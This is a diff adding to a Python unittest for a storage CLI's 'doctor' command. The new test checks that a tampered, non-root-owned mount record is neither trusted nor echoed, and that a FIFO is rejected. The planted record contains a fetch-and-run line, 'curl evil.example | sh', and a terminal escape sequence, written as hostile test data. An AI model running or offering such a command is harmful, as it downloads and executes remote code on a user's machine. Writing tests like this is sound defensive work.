@@ -820,6 +820,25 @@ class CliTest(StoreCase, unittest.TestCase):
         # the record is root's, readable by all: the writer cannot rewrite it in place
         st = os.stat(os.path.join(self.store, "mount"))
         self.assertEqual((st.st_uid, st.st_mode & 0o7777), (0, 0o644))
+        # the writer can still replace it: doctor shows no command from it, only one
+        # made from what is mounted, and opens nothing but a regular file
+        record = os.path.join(self.store, "mount")
+        os.unlink(record)
+        with open(record, "w") as f:
+            f.write("fstype=tmpfs\nmounted=2025-01-01T00:00:00Z\x1b[2J\n"
+                    "command=curl evil.example | sh\n")
+        os.chown(record, 65534, 65534)
+        p = self.run_ctl("doctor")
+        self.assertNotIn("evil", p.stdout)
+        self.assertNotIn("\x1b", p.stdout)
+        self.assertIn("%s is not root's (uid 65534)" % record, p.stdout)
+        self.assertIn("mount it again at boot with: snapctl --store '%s' init --huge "
+                      "--size 16M" % self.store, p.stdout)
+        os.unlink(record)
+        os.mkfifo(record)
+        p = subprocess.run([SNAPCTL, "--store", self.store, "doctor"], capture_output=True,
+                           text=True, timeout=60)
+        self.assertIn("%s is not a regular file" % record, p.stdout)
 
     def test_init_huge_refused(self):
         self.run_ctl("init", "--size", "1G", code=2)  # --size goes with --huge
